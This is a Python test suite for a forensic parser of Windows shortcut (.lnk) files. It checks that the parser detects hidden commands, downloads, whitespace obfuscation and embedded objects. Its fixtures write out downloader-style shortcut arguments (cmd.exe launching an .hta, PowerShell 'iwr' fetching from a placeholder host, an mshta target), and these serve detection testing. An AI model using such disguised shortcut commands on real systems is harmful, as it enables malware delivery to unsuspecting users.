import struct

from hypothesis import given
from hypothesis import strategies as st

from bartizan.forensics.documents import read_document
from bartizan.forensics.documents.lnk import read_lnk
from bartizan.forensics.examination import Sign, Trait, Trouble
from bartizan.forensics.file_types import find_type

HEAD = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"


def test_target_and_arguments_are_the_command(make, read):
    reading = read(make.lnk("C:\\cmd.exe", "/c start https://x.test/a.hta"))
    assert reading.signs[0] == Sign(Trait.COMMAND, "C:\\cmd.exe /c start https://x.test/a.hta")
    assert reading.urls == ("https://x.test/a.hta",)


def test_a_disguise_is_told(make, read, traits):
    arguments = "/c" + " " * 200 + "powershell iwr https://x.test/a -outfile b"
    reading = read(make.lnk("cmd.exe", arguments, "C:\\Reader\\AcroRd32.exe"))
    assert traits(reading) == ["command", "download", "obfuscated"]


def test_the_local_path_of_the_information_counts(read):
    path = b"C:\\Windows\\notepad.exe\0"
    info = struct.pack("<IIIIII", 28 + len(path), 28, 1, 0, 28, 0) + bytes(4) + path
    content = HEAD + struct.pack("<I", 0x02) + bytes(52) + info
    assert read(content).signs == (Sign(Trait.COMMAND, "C:\\Windows\\notepad.exe"),)


def test_the_last_item_names_the_target_where_nothing_else_does(read):
    items = "folder\0".encode("utf-16-le") + "mshta.exe\0".encode("utf-16-le")
    content = HEAD + struct.pack("<I", 0x01) + bytes(52) + struct.pack("<H", len(items)) + items
    assert "mshta.exe" in read(content).signs[0].detail


def test_the_environment_block_wins(make, read):
    wide = "%windir%\\system32\\cmd.exe\0".encode("utf-16-le").ljust(520, b"\0")
    block = struct.pack("<I", 788) + b"\x01\0\0\xa0" + bytes(260) + wide
    content = make.lnk("harmless.txt", "/c x")[:-4] + block
    assert read(content).signs[0].detail == "%windir%\\system32\\cmd.exe /c x"


def test_a_program_behind_the_end_is_told(make, read, traits):
    assert "embedded-object" in traits(read(make.lnk("cmd.exe", "", trailing=bytes(40_000))))


def test_a_torso_is_broken():
    assert read_lnk(b"L\0", find_type(b""), ()).defects[0].trouble is Trouble.BROKEN


@given(st.binary(max_size=400))
def test_any_bytes_can_be_read(rest):
    content = HEAD + rest
    reading = read_document(content, find_type(content), ())
    assert not [one for one in reading.defects if "could not go on" in one.sentence]
